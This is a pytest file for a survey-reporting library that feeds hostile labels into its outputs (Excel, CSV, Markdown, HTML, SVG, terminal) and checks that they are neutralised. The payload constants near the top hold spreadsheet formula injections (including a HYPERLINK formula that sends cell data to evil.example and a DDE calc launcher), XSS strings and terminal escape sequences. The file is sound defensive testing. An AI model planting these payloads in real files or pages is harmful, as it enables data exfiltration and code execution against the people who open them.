"""A payload battery: a survey file and a report spec full of hostile text, and every output read back.

Survey files, labels and specs come from strangers (issue #17).  The file here has formulas,
HTML, Markdown links, newlines, terminal escape sequences (window titles, OSC 8 hyperlinks),
backspaces and every C0 control character in its file label, variable labels and value
labels; the spec adds more in its titles.  The report is built and each file is read back as
its consumer would: openpyxl for the workbook, the csv module for CSV, xml.etree for SVG, and
the text of the Markdown, the HTML and what the terminal is sent.
"""

from __future__ import annotations

import csv
import re
import xml.etree.ElementTree as ET
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from click.testing import CliRunner

import pewlike as pw
from pewlike.cli import main
from pewlike.report import spec as specmod
from pewlike.report.build import build
from pewlike.textsafe import formula_like, markdown_text

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B5,"Click")'
CMD = "+cmd|' /C calc'!A0"
SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(1)>"
SVG = "<svg onload=alert(1)>"
JSLINK = "[x](javascript:alert(1))"
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
OSC0 = "\x1b]0;pwned\x07"
OSC8 = "\x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\"
C0 = "".join(chr(i) for i in range(1, 32))  # a NUL ends a string in a .sav; it comes from the spec below

Q_LABELS = {1: HYPERLINK, 2: CMD, 3: SCRIPT, 4: JSLINK}
G_LABELS = {1: SUM, 2: IMG + "\x7f\x85", 3: "Group " + OSC8}
Q1_WORDING = "=2+2 " + OSC0 + " " + SVG + " line\nbreak" + C0
FILE_LABEL = "Title\n# " + SVG + " " + OSC0

SPEC = r"""
title = "Report \u001b]0;pwned\u0007 <script>alert(1)</script>\n# injected heading\u0000\u007f\u0085"
subtitle = "[x](javascript:alert(1)) <img src=x onerror=alert(1)>"
intro = "Intro\n[ref]: javascript:alert(1)\n<svg onload=alert(1)>\b\b"
[data]
file = "h.sav"
weights = "weight"
ordinal = ["Q1", "Q2"]  # declared scales, so toplines carry nets and answers are indented under them
[defaults]
by = ["F_GRP"]
[[section]]
id = "s1"
title = "=cmd|' /C calc'!A0 \u001b]8;;http://evil\u001b\\link\u001b]8;;\u001b\\ ![i](http://evil/x.png)"
text = "Text <script>alert(2)</script>\r\nEVIL\rsafe"
[[topline]]
var = "Q1"
section = "s1"
chart = true
[[crosstab]]
var = "Q1"
section = "s1"
[[compare]]
vars = ["Q1", "Q2"]
labels = ["=A1+1", "<b>bold</b>"]
level = "<script>alert(1)</script>"
title = "Compare @SUM(A1) [y](javascript:alert(3))"
section = "s1"
"""

CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
RAW_HTML = re.compile(r"<\s*(script|img|svg|b)\b", re.IGNORECASE)


def _write_sav(path: Path) -> None:
    import pyreadstat

    rng = np.random.default_rng(17)
    n = 480
    df = pd.DataFrame(
        {
            "Q1": rng.integers(1, 5, n).astype(float),
            "Q2": rng.integers(1, 5, n).astype(float),
            "F_GRP": np.repeat([1.0, 2.0, 3.0], n // 3),
            "weight": rng.uniform(0.5, 2.0, n),
        }
    )
    pyreadstat.write_sav(
        df,
        str(path),
        file_label=FILE_LABEL,
        column_labels={"Q1": Q1_WORDING, "Q2": "\tQ2 " + JSLINK, "F_GRP": "\tgroup\x08\x08 " + JSLINK, "weight": "w"},
        variable_value_labels={"Q1": Q_LABELS, "Q2": Q_LABELS, "F_GRP": G_LABELS},
    )


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("hostile")
    _write_sav(root / "h.sav")
    (root / "report.toml").write_text(SPEC, encoding="utf-8")
    return root


@pytest.fixture(scope="module")
def report(hostile) -> tuple[Path, tuple[str, ...]]:
    res = build(specmod.load(hostile / "report.toml"), out=hostile / "out", jobs=1)
    return hostile / "out", res.files


def test_the_file_keeps_its_payloads(hostile):
    svy = pw.read(hostile / "h.sav", weights="weight")
    assert svy.question("Q1") == Q1_WORDING
    assert list(svy.data["Q1"].cat.categories) == list(Q_LABELS.values())
    assert OSC8 in list(svy.data["F_GRP"].cat.categories)[2]


def test_xlsx_cells_are_text_never_formulas(report):
    import openpyxl

    out, _ = report
    wb = openpyxl.load_workbook(out / "tables" / "tables.xlsx")
    texts = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value is None:
                    continue
                if isinstance(cell.value, (int, float)):  # shares, N and MOE are numbers (#11)
                    assert cell.data_type == "n", (ws.title, cell.coordinate, cell.value)
                    continue
                assert cell.data_type == "s", (ws.title, cell.coordinate, cell.value)
                assert not CONTROL.search(cell.value), (ws.title, cell.coordinate, cell.value)
                texts[cell.value] = cell
    title = "=2+2  " + SVG + " line\nbreak\t\n\n"  # OSC 0 and the control characters gone, tab and newlines kept
    assert texts[title].quotePrefix is True  # shown exactly; Excel keeps it text even when edited
    assert texts["  " + HYPERLINK].quotePrefix is True  # an indented answer under its net
    assert texts[SUM + " (A)"].quotePrefix is True  # a banner column header
    assert texts["\tgroup " + JSLINK].quotePrefix is True  # the banner's group label
    assert texts["Group link (C)"].quotePrefix is False  # OSC 8 gone, its text kept
    # the sheet XML holds no formula element at all
    import zipfile

    with zipfile.ZipFile(out / "tables" / "tables.xlsx") as z:
        sheets = [z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any(b"<f>" in s or b"<f " in s for s in sheets)


def test_csv_cells_are_guarded_and_plain(report):
    out, files = report
    csvs = [f for f in files if f.endswith(".csv")]
    assert len(csvs) >= 8
    cells = []
    for f in csvs:
        with open(out / f, newline="", encoding="utf-8") as fh:
            cells += [c for row in csv.reader(fh) for c in row]
    assert not [c for c in cells if formula_like(c)]
    assert not [c for c in cells if CONTROL.search(c)]
    assert "'" + HYPERLINK in cells and "'" + CMD in cells and "'" + SUM in cells
    assert HYPERLINK not in cells
    data = pd.read_csv(out / "tables" / "data" / "topline_Q1.csv")
    assert data["level"].tolist()[:4] == ["'" + HYPERLINK, "'" + CMD, SCRIPT, JSLINK]
    assert data["estimate"].dtype == float and data["estimate"].between(0, 1).all()


def test_csv_guard_can_be_turned_off_for_pipelines(hostile, tmp_path):
    text = SPEC.replace("[defaults]", '[output]\nformats = ["csv"]\nformula_guard = false\n[defaults]')
    (hostile / "plain.toml").write_text(text, encoding="utf-8")
    spec = specmod.load(hostile / "plain.toml")
    assert spec.output.formula_guard is False
    build(spec, out=tmp_path / "out", jobs=1)
    data = pd.read_csv(tmp_path / "out" / "tables" / "data" / "topline_Q1.csv")
    assert data["level"].tolist()[:2] == [HYPERLINK, CMD]


def _markdown_files(out: Path, files: tuple[str, ...]) -> dict[str, str]:
    return {f: (out / f).read_text(encoding="utf-8") for f in files if f.endswith(".md")}


def test_markdown_has_no_raw_html_links_or_broken_lines(report):
    out, files = report
    docs = _markdown_files(out, files)
    assert "report.md" in docs and len(docs) >= 4
    for name, text in docs.items():
        assert not RAW_HTML.search(text), name
        assert not re.search(r"(?<!\\)\]\(javascript:", text), name
        assert not CONTROL.search(text), name
        # every link or image target is a file the report wrote, or an anchor of it
        for target in re.findall(r"(?<!\\)\]\(([^)]*)\)", text):
            assert target.startswith("#") or target in files, (name, target)
        assert not re.search(r"^\s*\[[^\]]*\]:", text, re.MULTILINE), name  # no reference definitions
    md = docs["report.md"].splitlines()
    spec = specmod.load(out.parent / "report.toml")
    assert md[0] == "# " + markdown_text(spec.title)
    assert md[0] == (
        "# Report  &lt;script>alert(1)&lt;/script> \\# injected heading"  # one line; OSC 0 and controls gone
    )
    assert md[1] == ""
    headings = [line for line in md if line.startswith("#")]
    assert headings == [md[0], "## Contents", "## " + markdown_text(spec.sections[0].title), "## Methodology"]
    assert headings[2] == "## =cmd\\|' /C calc'!A0 link ![i\\](http://evil/x.png)"  # "]" escaped: no image
    assert "*[x\\](javascript:alert(1)) &lt;img src=x onerror=alert(1)>*" in md
    assert "Intro [ref\\]: javascript:alert(1) &lt;svg onload=alert(1)>" in md
    assert "Text &lt;script>alert(2)&lt;/script> EVIL safe" in md
    images = [line for line in md if line.startswith("![")]
    # alt text: every bracket escaped, so the image ends where pewlike ends it
    assert len(images) >= 3
    assert all(re.fullmatch(r"!\[(?:[^\[\]\\]|\\.)*\]\(figures/[A-Za-z0-9_]+\.png\)", line) for line in images), images


def test_svg_figures_are_valid_xml_with_the_labels_as_text(report):
    out, files = report
    svgs = [f for f in files if f.endswith(".svg")]
    assert len(svgs) >= 3
    texts = []
    for f in svgs:
        raw = (out / f).read_bytes()
        root = ET.fromstring(raw)  # raises on a control character
        assert not CONTROL.search(raw.decode("utf-8").replace("\t", "").replace("\n", ""))
        assert not root.findall(".//{http://www.w3.org/2000/svg}script")
        texts += ["".join(t.itertext()) for t in root.iter() if t.text]
    joined = " ".join(texts)
    # shown as text, escaped in the file; a long legend is wrapped to the page (#11), so the label
    # may run over two lines (SCRIPT has no space of its own)
    assert SCRIPT in re.sub(r"\s+", "", joined)
    assert "Group link" in joined and "\x1b" not in joined


def test_html_is_escaped_and_plain(report):
    out, files = report
    pages = {f: (out / f).read_text(encoding="utf-8") for f in files if f.endswith(".html")}
    assert "index.html" in pages
    for name, page in pages.items():
        assert not CONTROL.search(page.replace("\t", "")), name
        assert not re.search(r"<\s*(script|svg|b)\b", page, re.IGNORECASE), name
        assert re.findall(r"<img\b[^>]*>", page) == re.findall(r"<img src='data:image/png;base64,[^']*'[^>]*>", page)
        assert "javascript:" not in re.sub(r"&[^;]+;", "", " ".join(re.findall(r"href='([^']*)'", page)))
    index = pages["index.html"]
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in index
    assert "&lt;img src=x onerror=alert(1)&gt;" in index


def test_terminal_text_of_results_has_no_escape_sequences(hostile):
    svy = pw.read(hostile / "h.sav", weights="weight")
    shown = [
        str(svy.topline("Q1")),
        repr(svy.crosstab("Q1", "F_GRP")),
        str(svy.proportion("Q1", by="F_GRP")),
        svy.topline("Q1").summary(),
    ]
    for text in shown:
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", text)
        assert HYPERLINK in text or "Group link" in text
    assert "=2+2  <svg onload=alert(1)> line" in shown[0]
    assert "Group link" in shown[1]


@pytest.mark.parametrize(
    "args",
    [
        ["codebook", "--format", "table"],
        ["topline", "Q1", "--weights", "weight"],
        ["crosstab", "Q1", "--by", "F_GRP", "--weights", "weight"],
        ["topline", "Q1", "--weights", "weight", "--format", "md"],
    ],
)
def test_cli_prints_no_escape_sequences(hostile, args):
    data = [str(hostile / "h.sav")] if args[0] == "codebook" else ["--data", str(hostile / "h.sav")]
    res = CliRunner().invoke(main, [args[0], *data, *args[1:]])
    assert res.exit_code == 0, res.output
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", res.output)
    assert "pwned" not in res.output
    if "md" in args:
        assert not RAW_HTML.search(res.output) and not re.search(r"(?<!\\)\]\(javascript:", res.output)
        assert "| Q1 | [x\\](javascript:alert(1)) |" in res.output


def test_cli_csv_is_guarded(hostile):
    res = CliRunner().invoke(
        main, ["topline", "Q1", "--data", str(hostile / "h.sav"), "--weights", "weight", "--format", "csv"]
    )
    assert res.exit_code == 0, res.output
    rows = list(csv.reader(res.output.splitlines()))
    assert [r[1] for r in rows[1:3]] == ["'" + HYPERLINK, "'" + CMD]


def test_cli_starter_report_from_the_hostile_file(hostile, tmp_path):
    res = CliRunner().invoke(main, ["report", "--data", str(hostile / "h.sav"), "--out", str(tmp_path / "r"), "-q"])
    assert res.exit_code == 0, res.output
    md = (tmp_path / "r" / "report.md").read_text(encoding="utf-8").splitlines()
    assert md[0] == "# Title \\# &lt;svg onload=alert(1)> " and md[1] == ""
    assert not CONTROL.search(res.output)


def test_nul_del_and_c1_from_a_data_frame(tmp_path):
    """Characters a .sav cannot carry (NUL): a survey built from a DataFrame, written to every format."""
    import openpyxl

    from pewlike.plots import likert
    from pewlike.plots.theme import figure_bytes
    from pewlike.tables.export import write_csv, write_html, write_markdown, write_xlsx

    levels = ["Yes\x00", "No\x7f", "Maybe\x85", "Never\x1b[2J"]
    df = pd.DataFrame({"Q": pd.Categorical(levels * 25, categories=levels), "w": np.linspace(0.5, 1.5, 100)})
    t = pw.Survey(df, weights="w").topline("Q", nets=None)
    doc = t.table(name="q")
    write_xlsx([doc], tmp_path / "t.xlsx")  # openpyxl raised IllegalCharacterError here
    cells = [c.value for row in openpyxl.load_workbook(tmp_path / "t.xlsx")["q"].iter_rows() for c in row]
    assert {"Yes", "No", "Maybe", "Never"} <= set(cells)
    write_csv(t.to_frame(), tmp_path / "t.csv")
    assert pd.read_csv(tmp_path / "t.csv")["level"].tolist()[:4] == ["Yes", "No", "Maybe", "Never"]
    write_markdown(doc, tmp_path / "t.md")
    write_html(doc, tmp_path / "t.html")
    assert "| Maybe |" in (tmp_path / "t.md").read_text(encoding="utf-8")
    assert "<th scope='row'>Maybe</th>" in (tmp_path / "t.html").read_text(encoding="utf-8")
    for f in ("t.md", "t.html", "t.csv"):
        assert not CONTROL.search((tmp_path / f).read_text(encoding="utf-8").replace("\t", "")), f
    svg = figure_bytes(likert(t), "svg")
    ET.fromstring(svg)
    assert b"Maybe" in svg and not CONTROL.search(svg.decode("utf-8").replace("\t", "").replace("\n", ""))
    assert "Never" in str(t) and "\x1b" not in str(t) and "[2J" not in str(t)


def test_lone_surrogates_and_nul_in_a_table_doc(tmp_path):
    """pandas cannot put a lone surrogate in a survey's labels, but a table made by hand can hold one."""
    import openpyxl

    from pewlike.tables.export import TableDoc, write_csv, write_html, write_markdown, write_xlsx

    frame = pd.DataFrame(
        [["A\udc00b", "60"], ["=1+1\x00", "40"]], columns=pd.Index(["Resp\ud800onse", "%"], dtype=object), dtype=object
    )
    doc = TableDoc("s", "Ti\ud800tle\x00", frame, ["note\udfff"])
    write_xlsx([doc], tmp_path / "s.xlsx")
    ws = openpyxl.load_workbook(tmp_path / "s.xlsx")["s"]
    assert [ws["A1"].value, ws["A3"].value, ws["A4"].value, ws["A5"].value] == ["Title", "Response", "Ab", "=1+1"]
    assert ws["A5"].data_type == "s" and ws["A5"].quotePrefix is True
    write_csv(frame, tmp_path / "s.csv")  # a surrogate cannot be encoded as UTF-8: it is removed first
    assert (tmp_path / "s.csv").read_text(encoding="utf-8") == "Response,%\nAb,60\n'=1+1,40\n"
    write_markdown(doc, tmp_path / "s.md")
    assert (tmp_path / "s.md").read_text(encoding="utf-8").splitlines()[0] == "**Title**"
    write_html(doc, tmp_path / "s.html")
    assert "<h1>Title</h1>" in (tmp_path / "s.html").read_text(encoding="utf-8")


def test_a_starter_spec_keeps_a_label_with_del_valid(tmp_path):
    """DEL is legal in a label but not raw in TOML: `pewlike init` escapes it instead of failing."""
    import pyreadstat

    df = pd.DataFrame(
        {"Q1": np.tile([1.0, 2.0, 3.0, 4.0], 50), "F_SEX": np.repeat([1.0, 2.0], 100), "weight": np.ones(200)}
    )
    pyreadstat.write_sav(
        df,
        str(tmp_path / "d.sav"),
        file_label="Title\x7f\x85 " + OSC0,
        variable_value_labels={"Q1": {1: "a", 2: "b", 3: "c", 4: "d"}, "F_SEX": {1: "M", 2: "F"}},
    )
    res = CliRunner().invoke(main, ["init", str(tmp_path / "d.sav"), "-o", str(tmp_path / "r.toml")])
    assert res.exit_code == 0, res.output
    spec = specmod.load(tmp_path / "r.toml")
    assert spec.title == "Title\x7f\x85 " + OSC0  # kept exactly in the spec; cleaned where it is shown
    assert "\x7f" not in (tmp_path / "r.toml").read_text(encoding="utf-8")
